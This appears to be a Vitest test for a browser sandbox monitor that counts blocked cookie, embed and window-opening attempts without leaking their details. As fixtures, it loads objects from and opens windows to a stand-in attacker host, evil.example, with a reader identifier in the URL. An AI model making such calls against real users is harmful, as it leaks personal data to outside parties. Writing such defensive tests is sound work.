import { afterEach, expect, it } from 'vitest'
import type { FrameMessage } from '../bridge/frameMessages.ts'
import { watchBlocked } from './watchBlocked.ts'

const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie')!
const { open } = window
afterEach(() => {
  Object.defineProperty(Document.prototype, 'cookie', cookie)
  window.open = open
})

it('reports what the browser refuses by kind and count only', async () => {
  const refuse = (): never => {
    throw new DOMException('no cookies here', 'SecurityError')
  }
  Object.defineProperty(Document.prototype, 'cookie', { configurable: true, get: refuse })
  const policy = document.createElement('meta')
  policy.httpEquiv = 'Content-Security-Policy'
  policy.content = "object-src 'none'"
  document.head.append(policy)

  // As in a sandbox that allows no windows.
  window.open = () => null

  const reported: FrameMessage[] = []
  watchBlocked({ post: (message) => void reported.push(message) })
  // A plugin that listens later, and would keep the event for itself.
  window.addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), {
    capture: true,
  })
  for (const name of ['first', 'second']) {
    const object = document.createElement('object')
    object.data = `https://evil.example/${name}?reader=Pat`
    document.body.append(object)
    expect(() => document.cookie).toThrow('no cookies here')
    expect(window.open(`https://evil.example/${name}?reader=Pat`)).toBeNull()
  }
  // One that a plugin makes up.
  document.dispatchEvent(
    new SecurityPolicyViolationEvent('securitypolicyviolation', {
      bubbles: true,
      effectiveDirective: 'connect-src',
      violatedDirective: 'connect-src',
      documentURI: '',
      originalPolicy: '',
      disposition: 'enforce',
      statusCode: 0,
    }),
  )
  const counts = () =>
    Object.fromEntries(reported.map((one) => ('what' in one ? [one.what, one.count] : [])))
  await expect.poll(counts).toEqual({ frame: 2, storage: 2, navigation: 2 })
  expect(JSON.stringify(reported)).not.toContain('evil')
})
